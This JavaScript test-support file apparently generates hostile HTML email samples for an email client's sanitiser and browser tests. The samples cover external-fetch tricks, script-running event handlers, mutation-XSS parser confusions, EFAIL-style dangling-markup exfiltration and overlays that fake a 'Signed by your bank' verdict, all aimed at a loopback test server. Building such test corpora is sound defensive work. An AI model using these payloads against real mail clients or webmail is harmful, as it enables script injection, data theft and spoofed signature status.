/**
 * HTML that wants out of its frame: to fetch, to run, to lead away, to cover. Made by rule, so that each way of doing it
 * is tried in every place it can stand in. The unit tests sanitise it; the browser tests show it, and a server on
 * loopback waits for what may never arrive.
 *
 *     node test/support/hostile-html.js https://127.0.0.1:8443     prints all of it as JSON
 */

import { argv } from "node:process";
import { fileURLToPath } from "node:url";

/**
 * @typedef {{ name: string, html: string }} Hostile
 */

/** What a script of a mail would do, if one ran. */
export const MARK = "letterlockMailScript";
const RUN = `top.${MARK}=1;parent.${MARK}=1;window.${MARK}=1`;

/** Markup that fetches. `%` stands for an address. @type {Readonly<Record<string, string>>} */
const FETCHING = {
  "img srcset": `<img srcset="% 1x, % 2x">`,
  "img loading": `<img loading="eager" fetchpriority="high" lowsrc="%" dynsrc="%" longdesc="%">`,
  "picture": `<picture><source srcset="%"><img alt="x"></picture>`,
  "image": `<image src="%" href="%">`,
  "input image": `<input type="image" src="%">`,
  "audio": `<audio autoplay src="%"></audio>`,
  "video": `<video autoplay src="%" poster="%"><source src="%"><track default src="%"></video>`,
  "embed": `<embed src="%">`,
  "object": `<object data="%"><param name="src" value="%"></object>`,
  "applet": `<applet code="x" codebase="%" archive="%"></applet>`,
  "iframe": `<iframe src="%"></iframe>`,
  "iframe srcdoc": `<iframe srcdoc="&lt;img src='%'&gt;&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  "fencedframe": `<fencedframe src="%"></fencedframe><portal src="%"></portal>`,
  "frameset": `<frameset><frame src="%"></frameset>`,
  "script": `<script src="%"></script>`,
  "script module": `<script type="module">import "%";</script>`,
  "import map": `<script type="importmap">{"imports":{"x":"%"}}</script><script type="speculationrules">{"prefetch":[{"urls":["%"]}]}</script>`,
  "svg image": `<svg><image href="%" xlink:href="%" width="9" height="9"/></svg>`,
  "svg use": `<svg><use href="%#x" xlink:href="%#x"/></svg>`,
  "svg filter": `<svg><filter id="f"><feImage href="%"/></filter><rect filter="url(%#f)" width="9" height="9"/></svg>`,
  "svg style": `<svg><style>@import "%"; * { fill: url(%#x) }</style><rect width="9" height="9"/></svg>`,
  "svg pattern": `<svg><rect fill="url(%#x)" mask="url(%#x)" cursor="url(%)" width="9" height="9"/></svg>`,
  "svg font": `<svg><font-face><font-face-src><font-face-uri xlink:href="%"/></font-face-src></font-face></svg>`,
  "svg animation": `<svg><image><set attributeName="href" to="%"/><animate attributeName="href" values="%"/></image></svg>`,
  "svg document type": `<!DOCTYPE svg [<!ENTITY x SYSTEM "%">]><svg><text>&x;</text></svg>`,
  "math": `<math href="%"><mglyph src="%"/><annotation-xml encoding="text/html"><img srcset="%"></annotation-xml></math>`,
  "body background": `<body background="%">x`,
  "table background": `<table background="%"><tr background="%"><td background="%">x</td></tr></table>`,
  "bgsound": `<bgsound src="%">`,
  "meta refresh": `<meta http-equiv="refresh" content="0;url=%">`,
  "meta policy": `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri %"><img srcset="%">`,
  "meta prefetch": `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="%" ping="%">x</a>`,
  "base": `<base href="%/"><img srcset="relative"><a href="relative" ping="relative">x</a>`,
  "manifest": `<html manifest="%"><link rel="manifest" href="%">`,
  "form": `<form action="%" id="f"><input name="x" autofocus><button formaction="%">x</button></form><button form="f" formaction="%">y</button>`,
  "ping": `<a href="https://muster.example/" ping="%">x</a>`,
  "attribution": `<a href="https://muster.example/" attributionsrc="%">x</a><img attributionsrc="%">`,
  "processing instruction": `<?xml-stylesheet href="%"?><?import namespace="x" implementation="%"?>`,
  "conditional comment": `<!--[if gte mso 9]><img src="%"><![endif]--><![if !mso]><link rel="stylesheet" href="%"><![endif]>`,
  "vml": `<v:rect><v:fill src="%"/></v:rect><xml src="%"></xml>`,
  ...Object.fromEntries(
    ["stylesheet", "icon", "preload", "prefetch", "prerender", "preconnect", "dns-prefetch", "modulepreload", "import", "alternate stylesheet"].map(
      (relation) => [`link ${relation}`, `<link rel="${relation}" as="image" href="%" imagesrcset="%">`],
    ),
  ),
};

/** Declarations that fetch. @type {Readonly<Record<string, string>>} */
const DECLARATIONS = {
  background: "background: url(%)",
  "background-image": "background-image: url('%'), url(\"%\")",
  "image-set": "background-image: image-set('%' 1x); background: -webkit-image-set(url(%) 1x)",
  "cross-fade": "background-image: -webkit-cross-fade(url(%), url(%), 50%)",
  "escaped url": "background: \\75\\72\\6c(%)",
  "commented url": "background: u/**/rl(%); background: url(/**/%)",
  src: "background: src('%')",
  "list-style": "display: list-item; list-style: url(%); list-style-image: url(%)",
  cursor: "cursor: url(%), auto",
  content: "content: url(%)",
  border: "border: 9px solid; border-image: url(%) 9; border-image-source: url(%)",
  mask: "mask: url(%#x); -webkit-mask-image: url(%); clip-path: url(%#x)",
  filter: "filter: url(%#x); backdrop-filter: url(%#x)",
  shape: "float: left; shape-outside: url(%); offset-path: url(%#x)",
  variable: "--x: url(%); background: var(--x)",
  attribute: "background: attr(title url)",
  binding: "behavior: url(%); -moz-binding: url(%#x)",
  cover: "position: fixed; inset: 0; z-index: 2147483647; inline-size: 100vw; block-size: 100vh; background: #fff url(%)",
  absolute: "position: absolute; top: -900px; left: -900px; margin: -900px; transform: scale(90); background: url(%)",
};

/** Rules that fetch. @type {Readonly<Record<string, string>>} */
const RULES = {
  "import address": `@import "%";`,
  "import url": `@import url(%) layer(x) supports(display: block);`,
  "font face": `@font-face { font-family: x; src: url(%) } * { font-family: x }`,
  "media": `@media all { * { background: url(%) } }`,
  "supports": `@supports (display: block) { * { background: url(%) } }`,
  "nested": `* { & { background: url(%) } color: red }`,
  "keyframes": `@keyframes x { from { background: url(%) } } * { animation: x 1s infinite }`,
  "property": `@property --x { syntax: "<image>"; inherits: true; initial-value: url(%) } * { background: var(--x) }`,
  "selector": `a[href^="https"] { background: url(%) } p:first-child::before { content: url(%) }`,
  "namespace": `@namespace url(%); @charset "utf-7"; * { background: url(%) }`,
  "unclosed": `* { background: url(%`,
  "broken out": `x{}</style><img srcset="%"><style>`,
};

/** Markup that runs. @type {Readonly<Record<string, string>>} */
const RUNNING = {
  "script": `<script>${RUN}</script>`,
  "image error": `<img src="x:y" onerror="${RUN}"><img src=x: onerror=${RUN}//`,
  "svg load": `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  "svg animation": `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/><a><set attributeName="href" to="javascript:${RUN}"/><text>x</text></a></svg>`,
  "focus": `<input autofocus onfocus="${RUN}"><a tabindex="0" autofocus onfocus="${RUN}">x</a>`,
  "toggle": `<details open ontoggle="${RUN}"><summary>x</summary></details><video onloadstart="${RUN}"><source onerror="${RUN}"></video>`,
  "animation": `<style>@keyframes x {}</style><b style="animation: x 1s" onanimationstart="${RUN}" onanimationend="${RUN}">x</b>`,
  "popover": `<button popovertarget="p" autofocus>x</button><div popover="manual" id="p" onbeforetoggle="${RUN}">x</div>`,
  "javascript link": `<a href="java&#9;script:${RUN}" target="_top">x</a><area href="javascript:${RUN}">`,
  "data frame": `<iframe src="data:text/html,<script>${RUN}</script>"></iframe><iframe src="javascript:${RUN}"></iframe>`,
  "mutation style": `<svg></p><style><a id="</style><img src=x: onerror=${RUN}>">`,
  "mutation math": `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${RUN}>`,
  "mutation comment": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${RUN}&gt;">`,
  "mutation title": `<noscript><p title="</noscript><img src=x: onerror=${RUN}>">`,
  "mutation template": `<template><p title="</template><img src=x: onerror=${RUN}>"></template>`,
  "mutation select": `<select><template><iframe><xmp><img title="</xmp><img src=x: onerror=${RUN}>"></template></select>`,
  "comment": `<!--><img src=x: onerror=${RUN}>--><!-- --!><img src=x: onerror=${RUN}> -->`,
  "raw text": `<xmp></xmp><textarea></textarea><noembed></noembed><title></title><img src=x: onerror=${RUN}><plaintext>`,
  "foreign cdata": `<svg><![CDATA[</svg><img src=x: onerror=${RUN}>]]></svg>`,
  "shadow": `<div><template shadowrootmode="open"><img src=x: onerror=${RUN}><slot></slot></template></div>`,
  "clobbering": `<form id="x"><input name="attributes"><input name="nodeName"><input name="parentNode"></form><img name="body"><img name="documentElement" id="defaultView" onerror="${RUN}" src="x:">`,
  "custom element": `<x-y is="z" onclick="${RUN}" contenteditable autofocus onfocus="${RUN}">x</x-y>`,
};

/** Text that another part would be drawn into ("EFAIL", direct exfiltration), cut off in the middle. */
const CUT = {
  "double quotes": `<img src="%/`,
  "single quotes": `<img src='%/`,
  "no quotes": `<img src=%/`,
  "set of pictures": `<img srcset="%/`,
  "link": `<a href="%/`,
  "ping": `<a href="https://muster.example/" ping="%/`,
  "style": `<style>* { background: url("%/`,
  "style attribute": `<p style="background: url(%/`,
  "form": `<form action="%"><textarea name="x">`,
  "option": `<form action="%"><select><option>`,
  "base": `<base href="%/`,
  "frame": `<iframe srcdoc="<img src='%/`,
  "object": `<object data="%/`,
  "refresh": `<meta http-equiv="refresh" content="0; url=%/`,
  "comment": `<!-- <img src="%/`,
};

/** Markup that would lie over what is around the mail, or lead it away. */
const COVERING = {
  "top": `<a href="%" target="_top">x</a><a href="%" target="_parent" autofocus>y</a><form action="%" target="_top"><button autofocus>z</button></form>`,
  "dialog": `<dialog open style="position: fixed; inset: 0; z-index: 9">Signed by your bank · unchanged</dialog>`,
  "popover": `<div popover="manual" id="p" style="display: block; position: fixed; inset: 0">Signed</div><style>#p { display: block; position: fixed; inset: -999px }</style>`,
  "page": `<style>html, body, :root { position: fixed !important; inset: -500px !important; overflow: visible !important; zoom: 9 }</style><b>x</b>`,
  "tall": `<div style="height: 9999999px; width: 9999999px; min-width: 100vw; min-height: 100vh">x</div>`,
  "imitation": `<section class="parts"><div class="verdict" data-status="valid" data-letterlock="shown"><p class="verdict__headline" role="status">Signed by your bank</p></div></section>`,
  "deep": `${"<div>".repeat(3000)}x`,
  "wide": `<table><tr>${"<td>x</td>".repeat(3000)}</tr></table>`,
};

/** Places that markup can stand in. @type {Readonly<Record<string, (html: string) => string>>} */
const PLACES = {
  plainly: (html) => html,
  "in svg": (html) => `<svg><foreignObject><p>${html}</p></foreignObject></svg>`,
  "in a table in a form": (html) => `<form><table>${html}<tr><td>${html}</td></tr></table></form>`,
  "in other capitals": (html) => html.replace(/<(\/?[a-z]+)/g, (_, name) => `<${name[0].toUpperCase()}${name.slice(1)}`),
};

/**
 * @param {string} address  of a server that nothing of it may reach; no pictures of ordinary `img` are in it
 * @param {string[]} [places]
 * @returns {Hostile[]}
 */
export function hostile(address, places = Object.keys(PLACES)) {
  let at = 0;
  /** @param {string} html */
  const addressed = (html) => html.replaceAll("%", () => `${address}/${++at}`);
  const styles = Object.entries(DECLARATIONS).flatMap(([name, declarations]) => [
    [`style attribute: ${name}`, `<p title="%" style='${declarations.replaceAll("'", "&#39;")}'>x</p>`],
    [`style sheet: ${name}`, `<style>body, p, * { ${declarations} }</style><p title="%">x</p>`],
  ]);
  const rules = Object.entries(RULES).map(([name, rule]) => [`style sheet: ${name}`, `<style>${rule}</style><p>x</p>`]);
  /** @type {[string, Record<string, string> | string[][]][]} */
  const kinds = [["fetching", FETCHING], ["fetching", styles], ["fetching", rules], ["running", RUNNING], ["cut off", CUT], ["covering", COVERING]];
  return kinds.flatMap(([kind, ways]) =>
    (Array.isArray(ways) ? ways : Object.entries(ways)).flatMap(([name, html]) =>
      places.map((place) => ({ name: `${kind}, ${name}, ${place}`, html: PLACES[place](addressed(html)) })),
    ),
  );
}

if (argv[1] === fileURLToPath(import.meta.url)) console.log(JSON.stringify(hostile(argv[2], ["plainly"])));
